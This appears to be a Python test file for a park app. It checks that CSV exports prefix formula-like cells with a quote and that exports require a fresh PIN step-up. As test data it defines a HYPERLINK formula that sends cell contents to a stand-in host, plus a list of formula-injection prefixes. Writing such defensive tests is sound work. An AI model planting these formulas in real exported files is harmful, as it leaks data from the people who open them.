"""What leaves the house as CSV: for who has just given a PIN, and harmless in a spreadsheet (R41,
R56; ATTACKS 34)."""

import csv
import io
import re
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime, timedelta

import pytest

from playpark.ids import new_ulid
from tests.api.own_park import OWNER, OwnPark, own_park
from tests.attacks.described import Route, routes
from tests.attacks.worlds import World, fill, open_world

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"ok")'
HOSTILE = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1")
ROUND = 'quotes " and ""\r\ncommas, ;\nlines'
NUMBER = re.compile(r"-?\d+(\.\d+)?")
RUNS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture(scope="module")
def park(mongo_uri: str, database: str) -> Iterator[OwnPark]:
    with own_park(mongo_uri, f"{database}_exports") as park:
        yield park


@pytest.fixture(scope="module")
async def world(park: OwnPark) -> AsyncIterator[World]:
    """A store in which everything has a formula for a name, people too."""
    store_id = park.mongo.stores.find_one({"name": "Main Gate"})["_id"]
    async with open_world(park, "HOSTILE", store_id, "DEMO-MAIN-GATE", FORMULA) as world:
        await fill(world)
        yield world


@pytest.fixture(scope="module")
def exports(park: OwnPark) -> list[Route]:
    found = [route for route in routes(park.url) if route.has_csv and route.private]
    assert len(found) >= 8
    return found


async def rows(world: World, route: Route) -> list[list[str]]:
    response = await world.office.call("GET", route.url(), format="csv")
    assert response.status_code == 200, (route, response.text)
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.text, newline="")))


async def test_attack_34_no_cell_of_any_export_is_a_formula(
    world: World, exports: list[Route]
) -> None:
    seen = 0
    for route in exports:
        header, *body = await rows(world, route)
        for row in body:
            assert len(row) == len(header), route
            for name, cell in zip(header, row, strict=True):
                harmless = not cell.startswith(RUNS) or NUMBER.fullmatch(cell)
                assert harmless, (route, name, cell)
                seen += cell.startswith("'=HYPERLINK")
    assert seen > 10


async def test_attack_34_every_leading_sign_is_disarmed_and_the_rest_comes_back_whole(
    world: World, exports: list[Route]
) -> None:
    customers = next(route for route in exports if route.path.endswith("/customers"))
    known = world.park.mongo.customers.find_one({"_id": world.ids["customer_id"]})
    for name in (*HOSTILE, ROUND):
        guest = {"_id": new_ulid(), "name": name, "phone": None, "points": -5}
        world.park.mongo.customers.insert_one({**known, **guest})
    header, *body = await rows(world, customers)
    told = {row[header.index("name")]: row for row in body}
    for name in HOSTILE:
        assert f"'{name}" in told
        assert name not in told
    assert told[ROUND][header.index("points")] == "-5"


async def test_R41_an_export_takes_a_pin_of_just_now_and_never_goes_to_a_device_alone(
    park: OwnPark, exports: list[Route]
) -> None:
    async with park.connect("ADMIN", **OWNER) as owner, park.connect("ADMIN") as alone:
        me = (await owner.data("GET", "/v1/employees/me"))["employee_id"]
        long_ago = {f"employees.{me}.proved_at": datetime.now(UTC) - timedelta(minutes=16)}
        device = {"_id": owner.device["device_id"]}
        park.mongo.sessions.update_one(device, {"$set": long_ago})
        for route in exports:
            for asked in ({"format": "csv"}, {}):
                headers = {"Authorization": f"Bearer {owner.token}", "Accept": "text/csv"}
                response = await owner.http.get(route.url(), params=asked, headers=headers)
                error = response.json()["error"]
                assert (response.status_code, error["details"]["reason"]) == (403, "step_up"), route
            assert (await alone.call("GET", route.url(), format="csv")).status_code in {401, 403}
            assert (await owner.call("GET", route.url())).status_code == 200, route
        await owner.staff(**OWNER)
        for route in exports:
            response = await owner.call("GET", route.url(), format="csv")
            assert response.status_code == 200, route
